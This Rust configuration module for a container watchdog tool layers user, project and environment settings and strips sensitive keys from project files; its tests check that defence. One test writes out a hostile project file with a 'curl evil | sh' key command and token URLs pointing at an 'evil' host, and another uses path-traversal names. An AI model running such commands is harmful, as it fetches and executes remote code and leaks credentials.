//! The configuration: defaults, then the user's file, then the project's, then the environment; flags come last, in `cli`.
//!
//! The sections belong to the rooms that obey them; this file only finds, joins and explains. A broken file is a
//! [`Fault`] with file, line and fix, and the rest still counts.

use crate::{action, cli, engine, http, repair, store, tui};
use directories::ProjectDirs;
use serde::{Deserialize, Serialize};
use std::{
    collections::BTreeMap,
    fmt::{self, Write as _},
    path::{Path, PathBuf},
};
use toml::{Table, Value};

/// Everything a user may set in `config.toml`.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Config {
    /// Reading and remembering.
    pub engine: engine::Settings,
    /// The record on disk.
    pub journal: store::journal::Settings,
    /// The screen.
    pub tui: tui::Settings,
    /// Answering programs.
    pub http: http::Settings,
    /// The watchdog.
    pub watchdog: repair::Settings,
    /// How many containers services have, by service.
    pub scale: BTreeMap<String, repair::scale::Rule>,
    /// Messages to people and programs elsewhere.
    pub notify: action::notify::Settings,
    /// Filing issues; `[github]` is its older name.
    #[serde(alias = "github")]
    pub issues: action::forge::Settings,
    /// Environments of `monitor`, by name.
    pub env: BTreeMap<String, cli::monitor::Profile>,
    /// Rules beside the settings; `detect` reads them from the file itself, so that a fault costs one rule.
    #[serde(skip_serializing)]
    pub rule: serde::de::IgnoredAny,
    /// Fixes of several steps, which `repair` reads from the file itself.
    #[serde(skip_serializing)]
    pub fix: serde::de::IgnoredAny,
    /// Rules of grouping, which `detect` reads as well.
    #[serde(skip_serializing)]
    pub group: serde::de::IgnoredAny,
}

/// Where things of the user's are.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Paths {
    /// `config.toml`, `patterns/` and `themes/`.
    pub config: PathBuf,
    /// Triage, counts and our own log.
    pub state: PathBuf,
}

impl Paths {
    /// The folders of this user: `DOGWATCH_CONFIG_DIR` and `DOGWATCH_STATE_DIR`, else XDG's, else the system's.
    ///
    /// `None` where there is no home folder.
    pub fn find(env: impl Fn(&str) -> Option<String>) -> Option<Self> {
        let set = |key: &str| env(key).filter(|v| !v.is_empty()).map(PathBuf::from);
        let dirs = ProjectDirs::from("", "", "dogwatch");
        let xdg = |key: &str| set(key).filter(|p| p.is_absolute()).map(|p| p.join("dogwatch"));
        Some(Self {
            config: set("DOGWATCH_CONFIG_DIR")
                .or_else(|| xdg("XDG_CONFIG_HOME"))
                .or_else(|| dirs.as_ref().map(|d| d.config_dir().to_owned()))?,
            state: set("DOGWATCH_STATE_DIR").or_else(|| xdg("XDG_STATE_HOME")).or_else(|| {
                dirs.as_ref().map(|d| d.state_dir().unwrap_or(d.data_local_dir()).to_owned())
            })?,
        })
    }

    /// The user's file.
    pub fn file(&self) -> PathBuf {
        self.config.join("config.toml")
    }

    /// The user's rules.
    pub fn patterns(&self) -> PathBuf {
        self.config.join("patterns")
    }

    /// The user's fixes of several steps.
    pub fn fixes(&self) -> PathBuf {
        self.config.join("repairs.toml")
    }

    /// The user's themes.
    pub fn themes(&self) -> PathBuf {
        self.config.join("themes")
    }

    /// The folder of what is kept of a project: `state.db`, `lock`, `journal/`. Each project has its own writer.
    ///
    /// The name holds only letters, digits, `-` and `_`, however the project is called.
    pub fn project(&self, project: &str) -> PathBuf {
        let is_plain = |c: char| c.is_ascii_alphanumeric() || c == '-' || c == '_';
        let mut name: String = project.chars().filter(|c| is_plain(*c)).take(64).collect();
        if name != project || name.is_empty() {
            let hash = project.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
                (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
            });
            let _ = write!(name, "-{hash:016x}");
        }
        self.state.join("projects").join(name)
    }

    /// What is being filed, by repository.
    pub fn filing(&self) -> PathBuf {
        self.state.join("filing")
    }

    /// The key that makes the marks of masked secrets.
    pub fn key(&self) -> PathBuf {
        self.state.join("key")
    }

    /// Our own log.
    pub fn diagnostics(&self) -> PathBuf {
        self.state.join("dogwatch.log")
    }
}

/// Variables that set the watchdog, the weakest first.
const ALIASES: &[(&str, &str)] = &[
    ("AUTOHEAL_CONTAINER_LABEL", "labelled_only"),
    ("AUTOHEAL_INTERVAL", "interval_seconds"),
    ("AUTOHEAL_START_PERIOD", "start_period_seconds"),
    ("AUTOHEAL_DEFAULT_STOP_TIMEOUT", "stop_timeout_seconds"),
    ("AUTOHEAL_ONLY_MONITOR_RUNNING", "only_running"),
    ("WATCHDOG_INTERVAL", "interval_seconds"),
    ("MAX_RESTART_ATTEMPTS", "max_attempts"),
    ("RESTART_COOLDOWN", "cooldown_seconds"),
];

/// Variables for rules of scaling that do not say it themselves.
const SCALING: [(&str, &str); 3] =
    [("SCALER_INTERVAL", "interval_seconds"), ("MIN_REPLICAS", "min"), ("MAX_REPLICAS", "max")];

/// What the file of a project may not say, and of what that is the user's own word: it comes with a checkout.
const PRIVATE: &[(&str, &str, &str)] = &[
    ("issues", "api", "where your token goes"),
    ("issues", "host", "where your token goes"),
    ("issues", "url", "where your token goes"),
    ("tui", "commands", "what a key runs"),
    ("watchdog", "clean", "what is deleted"),
];

/// What is wrong with a part of the configuration; the rest still counts.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{origin}: {message}")]
pub struct Fault {
    /// The file or variable.
    pub origin: Origin,
    /// What is wrong, with line and fix.
    pub message: String,
}

/// Where a setting comes from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Origin {
    /// Built in.
    Default,
    /// This file.
    File(PathBuf),
    /// This variable.
    Environment(String),
}

impl fmt::Display for Origin {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Default => f.write_str("default"),
            Self::File(path) => path.display().fmt(f),
            Self::Environment(name) => f.write_str(name),
        }
    }
}

/// The configuration with where each setting comes from.
#[derive(Debug, Clone, Default)]
pub struct Loaded {
    /// What counts.
    pub config: Config,
    /// By dotted key; what is missing here is built in.
    pub origins: BTreeMap<String, Origin>,
    /// What is wrong.
    pub faults: Vec<Fault>,
    /// What a rule of scaling is where neither its table nor a label says it.
    pub usual: repair::scale::Rule,
    /// The variables that say so.
    pub scaling: Vec<&'static str>,
}

impl Loaded {
    /// Reads the files that exist, the user's own and then the project's, and `DOGWATCH_SECTION__KEY` variables. A layer
    /// with a fault is left out, and so is what the project's file may not say.
    pub fn read(
        own: Option<&Path>,
        project: Option<&Path>,
        env: impl IntoIterator<Item = (String, String)>,
    ) -> Self {
        let mut loaded = Self::default();
        let mut joined = Table::new();
        for file in own.into_iter().chain(project) {
            let text = match std::fs::read_to_string(file) {
                Ok(text) => text,
                Err(error) if error.kind() == std::io::ErrorKind::NotFound => continue,
                Err(error) => {
                    loaded.fault(Origin::File(file.into()), format!("cannot be read: {error}"));
                    continue;
                }
            };
            let withheld = if Some(file) == project { PRIVATE } else { &[] };
            loaded.layer(&mut joined, &text, (&Origin::File(file.into()), withheld));
        }
        let env: Vec<_> = env.into_iter().collect();
        loaded.aliases(&mut joined, &env);
        let mut variables: Vec<_> = env
            .iter()
            .filter_map(|(name, value)| {
                let path = name.strip_prefix("DOGWATCH_")?.to_lowercase();
                let (section, key) = path.split_once("__")?;
                Some((name.clone(), section.to_owned(), key.replace("__", "."), value.clone()))
            })
            .collect();
        variables.sort();
        for (name, section, key, value) in variables {
            // A bare word is a string; anything that TOML can read is taken as it is.
            let is_toml = format!("x = {value}").parse::<Table>().is_ok();
            let value = if is_toml { value } else { Value::String(value).to_string() };
            let text = format!("[{section}]\n{key} = {value}\n");
            loaded.layer(&mut joined, &text, (&Origin::Environment(name), &[]));
        }
        loaded.scaling(&mut joined, &env);
        match joined.try_into() {
            Ok(config) => loaded.config = config,
            Err(error) => loaded.fault(Origin::Default, error.to_string()),
        }
        loaded
    }

    /// Variables that people have already for the watchdog; those that begin with `DOGWATCH_` come later and win.
    fn aliases(&mut self, joined: &mut Table, env: &[(String, String)]) {
        for (name, key) in ALIASES {
            let Some((_, value)) = env.iter().find(|(n, v)| n == name && !v.is_empty()) else {
                continue;
            };
            let value = match (*key, value.trim()) {
                ("labelled_only", label) => (!label.eq_ignore_ascii_case("all")).to_string(),
                (_, value) if value.eq_ignore_ascii_case("true") => "true".to_owned(),
                (_, value) if value.eq_ignore_ascii_case("false") => "false".to_owned(),
                (_, value) => value.trim_end_matches('s').to_owned(),
            };
            let text = format!("[watchdog]\n{key} = {value}\n");
            self.layer(joined, &text, (&Origin::Environment((*name).to_owned()), &[]));
        }
    }

    /// Variables that people have already for a scaler of all services: they fill what a rule leaves open.
    fn scaling(&mut self, joined: &mut Table, env: &[(String, String)]) {
        for (name, key) in SCALING {
            let Some((_, value)) = env.iter().find(|(n, v)| n == name && !v.is_empty()) else {
                continue;
            };
            let origin = Origin::Environment(name.to_owned());
            let Some(number) =
                value.trim().trim_end_matches('s').parse::<u32>().ok().filter(|n| *n > 0)
            else {
                self.fault(origin, format!("write a whole number from 1 on, not {value:?}"));
                continue;
            };
            self.scaling.push(name);
            match key {
                "min" => self.usual.min = number,
                "max" => self.usual.max = number,
                _ => self.usual.interval_seconds = u64::from(number),
            }
            let Some(Value::Table(rules)) = joined.get_mut("scale") else { continue };
            for (service, rule) in rules {
                let Value::Table(rule) = rule else { continue };
                if !rule.contains_key(key) {
                    rule.insert(key.to_owned(), Value::Integer(i64::from(number)));
                    self.origins.insert(format!("scale.{service}.{key}"), origin.clone());
                }
            }
        }
    }

    /// Adds one layer if it is sound by itself, without what is `withheld` from it.
    fn layer(
        &mut self,
        joined: &mut Table,
        text: &str,
        (origin, withheld): (&Origin, &[(&str, &str, &str)]),
    ) {
        // Checked alone first: the error then shows line, caret and the known keys of this very file.
        if let Err(error) = toml::from_str::<Config>(text) {
            self.fault(origin.clone(), error.to_string().trim_end().to_owned());
            return;
        }
        let Ok(mut table) = text.parse::<Table>() else { return };
        rename(&mut table, "github", "issues");
        if let Some(Value::Table(issues)) = table.get_mut("issues") {
            rename(issues, "issue", "form");
        }
        for (section, key, what) in withheld {
            let Some(Value::Table(inner)) = table.get_mut(*section) else { continue };
            if inner.remove(*key).is_some() {
                let told = format!(
                    "{section}.{key} is passed over: only you may say {what}; move it into your own file, which \
                     `dogwatch config path` names"
                );
                self.fault(origin.clone(), told);
            }
        }
        self.note("", &table, origin);
        merge(joined, table);
    }

    fn note(&mut self, prefix: &str, table: &Table, origin: &Origin) {
        for (key, value) in table {
            let path = if prefix.is_empty() { key.clone() } else { format!("{prefix}.{key}") };
            match value {
                Value::Table(inner) => self.note(&path, inner, origin),
                _ => {
                    self.origins.insert(path, origin.clone());
                }
            }
        }
    }

    fn fault(&mut self, origin: Origin, message: String) {
        self.faults.push(Fault { origin, message });
    }
}

/// Takes an older name for its present one, so that layers with both of them join.
fn rename(table: &mut Table, old: &str, new: &str) {
    if let Some(value) = table.remove(old) {
        table.insert(new.to_owned(), value);
    }
}

fn merge(below: &mut Table, above: Table) {
    for (key, value) in above {
        match (below.get_mut(&key), value) {
            (Some(Value::Table(below)), Value::Table(above)) => merge(below, above),
            (_, value) => {
                below.insert(key, value);
            }
        }
    }
}

/// The project's own file beside its Compose file.
pub fn project_file(folder: &Path) -> PathBuf {
    folder.join(".dogwatch.toml")
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;

    #[test]
    fn later_layers_win_and_origins_are_known() {
        let folder = tempfile::tempdir().unwrap();
        let user = folder.path().join("config.toml");
        let project = project_file(folder.path());
        fs::write(&user, "[engine]\ntail = 5\nverify_seconds = 7\n").unwrap();
        fs::write(&project, "[engine]\ntail = 6\n").unwrap();
        let env = [
            ("DOGWATCH_ENGINE__VERIFY_SECONDS".to_owned(), "8".to_owned()),
            ("DOGWATCH_GITHUB__REPOSITORY".to_owned(), "a/b".to_owned()),
            ("OTHER".to_owned(), "x".to_owned()),
        ];
        let loaded = Loaded::read(Some(&user), Some(&project), env);
        assert_eq!(loaded.faults, []);
        assert_eq!(loaded.config.engine.tail, 6);
        assert_eq!(loaded.config.engine.verify_seconds, 8);
        assert_eq!(loaded.config.issues.repository.as_deref(), Some("a/b"));
        assert_eq!(loaded.origins["engine.tail"], Origin::File(project));
    }

    #[test]
    fn the_file_of_a_project_says_neither_where_a_token_goes_nor_what_a_key_runs() {
        let folder = tempfile::tempdir().unwrap();
        let user = folder.path().join("config.toml");
        let project = project_file(folder.path());
        fs::write(&user, "[issues]\nurl = \"https://git.mine\"\n").unwrap();
        let theirs = "[github]\nurl = \"https://evil\"\napi = \"https://evil\"\nhost = \"evil\"\n\
                      repository = \"a/b\"\n[tui.commands]\nlogs = \"curl evil | sh\"\n\
                      [watchdog]\nclean = [\"own-logs\"]\n";
        fs::write(&project, theirs).unwrap();
        let loaded = Loaded::read(Some(&user), Some(&project), []);
        let Config { issues, tui, .. } = &loaded.config;
        assert_eq!(issues.url.as_deref(), Some("https://git.mine"));
        assert_eq!((&issues.api, &issues.host), (&None, &None));
        assert_eq!(issues.repository.as_deref(), Some("a/b"));
        assert!(tui.commands.is_empty());
        let told: Vec<_> = loaded.faults.iter().map(ToString::to_string).collect();
        assert_eq!(loaded.config.watchdog.clean, []);
        assert_eq!(told.len(), 5, "{told:#?}");
        let withheld =
            ["issues.api", "issues.host", "issues.url", "tui.commands", "watchdog.clean"];
        for part in withheld {
            let is_told = |t: &String| t.contains(".dogwatch.toml: ") && t.contains(part);
            assert!(told.iter().any(is_told), "{part}: {told:#?}");
        }
        // The user's own file may say all of it.
        let loaded = Loaded::read(Some(&project), None, []);
        assert_eq!((loaded.faults.len(), loaded.config.tui.commands.len()), (0, 1));
    }

    #[test]
    fn a_broken_file_is_named_and_the_rest_counts() {
        let folder = tempfile::tempdir().unwrap();
        let user = folder.path().join("config.toml");
        let project = project_file(folder.path());
        fs::write(&user, "[engine]\ntial = 5\n").unwrap();
        fs::write(&project, "[engine]\ntail = 6\n").unwrap();
        let loaded = Loaded::read(Some(&user), Some(&project), []);
        let [fault] = &loaded.faults[..] else { panic!("{:?}", loaded.faults) };
        assert_eq!(fault.origin, Origin::File(user));
        for part in ["line 2", "tial", "tail"] {
            assert!(fault.message.contains(part), "{}", fault.message);
        }
        assert_eq!(loaded.config.engine.tail, 6);
    }

    #[test]
    fn variables_of_other_watchdogs_are_understood() {
        let env = |pairs: &[(&str, &str)]| {
            let own = |(k, v): &(&str, &str)| ((*k).to_owned(), (*v).to_owned());
            Loaded::read(None, None, pairs.iter().map(own).collect::<Vec<_>>())
        };
        let loaded = env(&[
            ("AUTOHEAL_INTERVAL", "5"),
            ("WATCHDOG_INTERVAL", "20s"),
            ("MAX_RESTART_ATTEMPTS", "2"),
            ("RESTART_COOLDOWN", "60"),
            ("AUTOHEAL_CONTAINER_LABEL", "heal-me"),
            ("AUTOHEAL_ONLY_MONITOR_RUNNING", "True"),
        ]);
        assert_eq!(loaded.faults, []);
        let watchdog = &loaded.config.watchdog;
        assert_eq!((watchdog.interval_seconds, watchdog.max_attempts), (20, 2));
        assert_eq!(watchdog.cooldown_seconds, 60);
        assert!(watchdog.labelled_only && watchdog.only_running);
        assert!(!env(&[("AUTOHEAL_CONTAINER_LABEL", "all")]).config.watchdog.labelled_only);
        // Those of its scaler fill what a rule leaves open, and nothing else.
        let loaded = env(&[
            ("SCALER_INTERVAL", "60"),
            ("MIN_REPLICAS", "2"),
            ("MAX_REPLICAS", "9"),
            ("DOGWATCH_SCALE__WORKER__MAX", "4"),
        ]);
        assert_eq!(loaded.faults, []);
        let rule = &loaded.config.scale["worker"];
        assert_eq!((rule.interval_seconds, rule.min, rule.max), (60, 2, 4));
        assert_eq!(loaded.origins["scale.worker.min"].to_string(), "MIN_REPLICAS");
        assert_eq!((loaded.usual.max, loaded.scaling.len()), (9, 3));
        let bad = env(&[("MIN_REPLICAS", "none")]);
        assert!(bad.faults[0].to_string().starts_with("MIN_REPLICAS: write a whole"), "{bad:?}");
        let bad = env(&[("RESTART_COOLDOWN", "soon")]);
        assert!(bad.faults[0].to_string().starts_with("RESTART_COOLDOWN: "), "{:?}", bad.faults);
        assert_eq!(bad.config.watchdog.cooldown_seconds, 300);
    }

    #[test]
    fn folders_follow_the_environment() {
        let env = |key: &str| match key {
            "DOGWATCH_CONFIG_DIR" => Some("/c".to_owned()),
            "XDG_STATE_HOME" => Some("/s".to_owned()),
            _ => None,
        };
        let paths = Paths::find(env).unwrap();
        assert_eq!(paths.file(), Path::new("/c/config.toml"));
        let shop = Path::new("/s/dogwatch/projects/shop");
        assert_eq!(paths.project("shop"), shop);
        for hostile in ["../../etc/x", "a/b", "", "con\0"] {
            let path = paths.project(hostile);
            assert_eq!(path.parent(), shop.parent());
            assert_ne!(path, paths.project("x"));
        }
    }
}
